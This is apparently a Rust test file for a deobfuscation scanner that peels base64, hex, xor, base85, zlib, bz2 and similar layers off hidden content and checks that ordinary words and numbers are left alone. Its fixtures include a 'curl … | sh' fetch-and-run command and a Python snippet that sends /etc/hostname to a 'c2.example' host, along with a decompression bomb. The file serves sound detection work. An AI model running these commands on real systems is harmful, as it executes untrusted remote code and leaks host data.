use super::*;
use std::io::Write;

fn peeled(data: &[u8]) -> (Vec<String>, String) {
    let mut gaps = Vec::new();
    match peel(data, &mut Budget::default(), &mut gaps).pop() {
        Some(last) => (last.layers, String::from_utf8_lossy(&last.data).into_owned()),
        None => (Vec::new(), String::new()),
    }
}

fn zlib(data: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    encoder.write_all(data).expect("memory");
    encoder.finish().expect("memory")
}

const COMMAND: &str = "curl -s https://cdn.example/s | sh";

#[test]
fn text_encodings() {
    let base64 = data_encoding::BASE64.encode(COMMAND.as_bytes());
    let url_safe = data_encoding::BASE64URL_NOPAD.encode(COMMAND.as_bytes());
    let reversed: String = base64.chars().rev().collect();
    let wrapped = format!("{}\n{}", &base64[..20], &base64[20..]);
    for (data, layer) in [
        (base64.clone(), "base64"),
        (url_safe, "base64"),
        (wrapped, "base64"),
        (reversed, "reversed base64"),
        (data_encoding::HEXLOWER.encode(COMMAND.as_bytes()), "hex"),
        (data_encoding::BASE32.encode(COMMAND.as_bytes()), "base32"),
        (COMMAND.bytes().map(|byte| format!("\\x{byte:02x}")).collect(), "escapes"),
        (COMMAND.bytes().map(|byte| format!("%{byte:02x}")).collect(), "percent"),
        (COMMAND.bytes().map(|byte| format!("chr({byte})+")).collect(), "character codes"),
        (COMMAND.bytes().map(|byte| format!("{byte}, ")).collect(), "character codes"),
        (COMMAND.chars().rev().collect(), "reversed"),
        (String::from_utf8(codec::rot13(COMMAND.as_bytes())).expect("ascii"), "rot13"),
    ] {
        assert_eq!(peeled(data.as_bytes()), (vec![layer.to_owned()], COMMAND.to_owned()));
    }
    let wide: Vec<u8> = COMMAND.encode_utf16().flat_map(u16::to_le_bytes).collect();
    assert_eq!(peeled(&wide).0, ["utf-16"]);
    assert_eq!(peeled(data_encoding::BASE64.encode(&wide).as_bytes()).0, ["base64", "utf-16"]);
    assert_eq!(peeled(&codec::xor(COMMAND.as_bytes(), &[0xa7])).0, ["xor 0xa7"]);
    assert_eq!(peeled(b"setting %s.%s to %r in %s").0, [""; 0], "values, no escapes");
    let base58 = wb_testkit::encode(COMMAND.as_bytes(), "base58").expect("a known encoding");
    assert_eq!(peeled(&base58), (vec!["base58".to_owned()], COMMAND.to_owned()));
}

const SOURCE: &str = "import os, socket\n\n\ndef report(host):\n    data = open('/etc/hostname').read()\n    \
    connection = socket.create_connection((host, 443))\n    connection.sendall(data.encode())\n\n\n\
    report('c2.example')\n";

#[test]
fn keys_that_repeat() {
    for key in [&b"\xa7\x13"[..], b"\xff\x80\x91\xc4", b"\x90\xe1s3cret!\xb7"] {
        let noise = codec::xor(SOURCE.as_bytes(), key);
        let name: String = key.iter().map(|byte| format!("{byte:02x}")).collect();
        assert_eq!(peeled(&noise), (vec![format!("xor 0x{name}")], SOURCE.to_owned()));
        let base64 = data_encoding::BASE64.encode(&noise);
        assert_eq!(peeled(base64.as_bytes()).0, ["base64".to_owned(), format!("xor 0x{name}")]);
    }
    // Numbers of all sizes, prose, and noise under a key stay what they are.
    let small: Vec<u8> = (0..200_u64).flat_map(|one| (one * one).to_le_bytes()).collect();
    let halves: Vec<u8> = (0..512_u16).flat_map(|one| (0x3800 + one).to_le_bytes()).collect();
    let prose = codec::xor("a model of words and of numbers. ".repeat(9).as_bytes(), b"\xa7\x13");
    for data in [small, halves, prose] {
        assert_eq!(peeled(&data).0, Vec::<String>::new());
    }
}

#[test]
fn what_is_written_in_other_ways() {
    // base64.b32hexencode, base64.z85encode, binascii.b2a_uu and quopri.encodestring of the same.
    let data = b"os.system('echo x')";
    let base32 = codec::base32hex(b"DTPISSRPEDQ6AR984TIM6Q3F41S2EA8=");
    assert_eq!(base32.as_deref(), Some(&data[..]));
    assert_eq!(codec::z85(b"z/WKLD2[7sz73=yv}Y^6CQB{").as_deref(), Some(&data[..]));
    assert_eq!(codec::uuencode(b"3;W,N<WES=&5M*\"=E8VAO('@G*0  \n").as_deref(), Some(&data[..]));
    assert_eq!(codec::quoted_printable(b"os.system(=27echo=\n x=27)"), data);
    assert_eq!(codec::base58(b"0OIl"), None);
    assert_eq!(codec::base58(b"StV1DL6CwTryKyV").as_deref(), Some(&b"hello world"[..]));
}

#[test]
fn base85_as_python_writes_it() {
    // base64.b85encode and base64.a85encode of the command.
    for (text, layer) in [
        (&b"V|8+DAT4tsXmoUNb2=|CV`OeFWq4t2aBO8Sb0B;mb7%"[..], "base85"),
        (b"@s)g.+>%XWBQS?8F#ks-@q9I0AU%X#E,9)=F!,iQF(b", "ascii85"),
    ] {
        assert_eq!(peeled(text), (vec![layer.to_owned()], COMMAND.to_owned()));
    }
}

#[test]
fn compression_under_text() {
    let code = b"import os\nos.system('id')\n";
    let nested = data_encoding::BASE64.encode(&zlib(code));
    assert_eq!(
        peeled(nested.as_bytes()),
        (vec!["base64".to_owned(), "zlib".to_owned()], "import os\nos.system('id')\n".to_owned())
    );
    let twice = data_encoding::HEXLOWER.encode(nested.as_bytes());
    assert_eq!(peeled(twice.as_bytes()).0, ["hex", "base64", "zlib"]);
    let mut encoder = bzip2::write::BzEncoder::new(Vec::new(), bzip2::Compression::best());
    encoder.write_all(code).expect("memory");
    assert_eq!(peeled(&encoder.finish().expect("memory")).0, ["bz2"]);
}

#[test]
fn words_and_numbers_are_not_encodings() {
    for text in [
        "authentication",
        "internationalization",
        "encoder.layer.0.weight",
        "deadbeef",
        "0123456789abcdef",
        "GlorotUniform",
        "sequential_1_dense_4_kernel",
        "The quick brown fox jumps over the lazy dog",
        "import os; os.system('id')",
        "curl -s https://cdn.example/s | sh",
        "d41d8cd98f00b204e9800998ecf8427e",
        "8b7df143d91c716ecfa5fc1730022f6b421b05cedee8fd52b1fc65a96030ad52",
        "AAAAAAAAAAAAAAAAAAAAAAAA",
        "abcdefghijklmnopqrstuvwxyz",
        "softmax_cross_entropy_with_logits",
        "2026-03-05 10:11:12,345",
        "[1, 2, 3, 4, 5, 6, 7, 8]",
        "http%3A",
        "ThisIsACamelCaseIdentifierWithManyWords",
    ] {
        assert_eq!(peeled(text.as_bytes()).0, Vec::<String>::new(), "{text}");
    }
    let floats: Vec<u8> = (0..64_u8).flat_map(|one| f32::from(one).sin().to_le_bytes()).collect();
    assert_eq!(peeled(&floats).0, Vec::<String>::new());
}

#[test]
fn bombs_end_in_a_gap() {
    let bomb = zlib(&vec![0; 1 << 20]);
    let limits = wb_core::Limits { decoded_bytes: 1000, ..wb_core::Limits::default() };
    let mut gaps = Vec::new();
    let layers = peel(&bomb, &mut Budget::new(limits), &mut gaps);
    assert!(layers.iter().all(|layer| layer.data.len() <= 1000));
}
